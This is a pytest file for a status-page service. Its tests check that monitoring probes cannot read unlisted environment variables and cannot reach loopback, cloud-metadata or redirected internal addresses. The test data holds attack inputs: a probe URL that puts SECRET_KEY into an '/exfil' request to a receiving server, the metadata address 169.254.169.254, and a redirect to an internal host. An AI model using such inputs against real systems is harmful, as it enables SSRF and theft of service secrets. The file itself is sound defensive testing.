"""Probes get only what they are given (issue 12, attack 4): `{{ env.NAME }}` reads only the
names PROBE_ENV_ALLOW lists, the service's own settings can never be listed, and probe
targets pass the webhooks' SSRF guard (PROBE_ALLOWED_NETWORKS)."""

import ipaddress
import subprocess
import sys
from datetime import UTC, datetime

import pytest
import yaml
from django.core.management import CommandError, call_command

from probes.models import Probe, ProbeRun, RegionState
from probes.tasks import probe_env, run_probe_batch
from statuspage.config.apply import apply_config
from statuspage.config.schema import validate
from tests.loopback import Answer, Loopback, Reply
from tests.processes import ROOT

pytestmark = pytest.mark.django_db


def internal(redirect: str | None = None) -> Answer:
    """An internal service's answer (a secret in its body), or a redirect to `redirect`."""
    if redirect:
        return lambda request: Reply(302, b"", {"Location": redirect})
    return lambda request: Reply(200, b"internal-only: db password hunter2")


@pytest.fixture
def receiver():
    with Loopback(internal()) as server:
        yield server


def paths(server: Loopback) -> list[str]:
    return [request.path for request in server.requests]


def probe_doc(page_config, url, **request):
    return {**page_config, "probes": [{
        "key": "exfil", "component": "reserve-auth", "interval": "10s", "timeout": "2s",
        "steps": [{"name": "fetch", "request": {"method": "GET", "url": url, **request},
                   "expect": {"body_contains": "never there"}}],
    }]}


def stored_probe(page, url, **request):
    """A probe as it may sit in the database whatever the validator says today."""
    from statuspage.models import Component

    definition = {"key": "exfil", "component": "reserve-auth", "interval_ms": 10_000, "timeout_ms": 2_000,
                  "regions": ["default"], "quorum": 1, "trip_after": 3, "recover_after": 2,
                  "steps": [{"name": "fetch", "request": {"method": "GET", "url": url, **request},
                             "expect": {"status": [200]}, "save": {}}]}
    probe = Probe.objects.create(key="exfil", component=Component.objects.get(key="reserve-auth"),
                                 definition=definition)
    RegionState.objects.create(probe=probe, region="default", next_run_at=datetime.now(UTC))
    return probe


def run_once(probe) -> ProbeRun:
    assert run_probe_batch("default", [(probe.pk, datetime.now(UTC).isoformat())]) == 1
    return ProbeRun.objects.get(probe=probe)


def test_the_api_refuses_a_probe_that_reads_the_secret_key_and_names_it(page, page_config, api, receiver):
    # The attack of the issue, as posted.
    response = api.post("/api/v1/config/", probe_doc(page_config, receiver.url + "/exfil?sk={{ env.SECRET_KEY }}"),
                        format="json")

    assert response.status_code == 400
    assert "SECRET_KEY" in str(response.json()["errors"]["probes[0].steps[0]"])
    assert not Probe.objects.exists()


def test_apply_config_refuses_a_variable_the_allow_list_does_not_name(page_config, tmp_path, settings):
    settings.PROBE_ENV_ALLOW = ["CANARY_CODE"]
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump(probe_doc(page_config, "https://reserve.example/{{ env.CANARY_PHONE }}")))

    with pytest.raises(CommandError, match=r"env\.CANARY_PHONE \}\} names CANARY_PHONE, which PROBE_ENV_ALLOW"):
        call_command("apply_config", str(config))


def test_a_listed_variable_is_accepted(page_config, settings):
    settings.PROBE_ENV_ALLOW = ["CANARY_PHONE"]

    config, errors = validate(probe_doc(page_config, "https://reserve.example/{{ env.CANARY_PHONE }}"))

    assert errors == []
    apply_config(config)
    assert Probe.objects.filter(key="exfil").exists()


@pytest.mark.parametrize("name", ["SECRET_KEY", "WEBHOOK_SECRET_KEY", "DATABASE_URL", "REDIS_URL",
                                  "CELERY_BROKER_URL", "EMAIL_HOST_PASSWORD", "SECRET_KEY_FILE", "DEBUG", "LOG_LEVEL"])
def test_the_process_refuses_to_start_when_the_allow_list_names_the_services_own_setting(name):
    started = subprocess.run(
        [sys.executable, "-c", "import django; django.setup()"], cwd=ROOT, capture_output=True, text=True,
        env={"PATH": "/usr/bin:/bin", "DJANGO_SETTINGS_MODULE": "statuspage.settings",
             "PROBE_ENV_ALLOW": f"CANARY_CODE,{name}", "STATUSPAGE_VAR_DIR": str(ROOT / "var")}, timeout=60)

    assert started.returncode != 0
    assert f"PROBE_ENV_ALLOW lists {name}" in started.stderr


def test_a_stored_probe_cannot_read_an_unlisted_variable_of_the_worker(page, receiver, monkeypatch, settings):
    monkeypatch.setenv("SECRET_KEY", "the-real-secret-key-0123456789")
    settings.PROBE_ALLOWED_NETWORKS = [ipaddress.ip_network("127.0.0.1/32")]
    probe = stored_probe(page, receiver.url + "/exfil?sk={{ env.SECRET_KEY }}")

    run = run_once(probe)

    assert "SECRET_KEY" not in probe_env()
    assert paths(receiver) == []  # the request was never sent
    assert not run.ok and "environment variable SECRET_KEY is not set" in run.message


def test_a_probe_is_refused_a_loopback_target_and_returns_none_of_its_body(page, receiver):
    probe = stored_probe(page, receiver.url + "/internal")

    run = run_once(probe)

    assert paths(receiver) == []
    assert not run.ok and run.failure_class == "connect"
    assert "loopback" in run.message and "PROBE_ALLOWED_NETWORKS" in run.message
    assert "hunter2" not in str(run.detail)


def test_the_cloud_metadata_address_is_refused(page, settings):
    settings.PROBE_ALLOWED_NETWORKS = [ipaddress.ip_network("127.0.0.0/8")]
    probe = stored_probe(page, "http://169.254.169.254/latest/meta-data/")

    run = run_once(probe)

    assert not run.ok and "metadata" in run.message


def test_an_allowed_network_is_reached(page, receiver, settings):
    settings.PROBE_ALLOWED_NETWORKS = [ipaddress.ip_network("127.0.0.1/32")]
    probe = stored_probe(page, receiver.url + "/health")

    run = run_once(probe)

    assert run.ok and paths(receiver) == ["/health"]


def test_a_probe_does_not_follow_a_redirect_to_a_refused_address(page, settings):
    settings.PROBE_ALLOWED_NETWORKS = [ipaddress.ip_network("127.0.0.1/32")]  # not 127.0.0.2
    with Loopback(internal(), host="127.0.0.2") as inside, \
            Loopback(internal(redirect=inside.url + "/internal")) as front:
        probe = stored_probe(page, front.url + "/start", follow_redirects=True)
        run = run_once(probe)

    assert paths(front) == ["/start"] and paths(inside) == []
    assert not run.ok and "127.0.0.2" in run.message and "hunter2" not in str(run.detail)
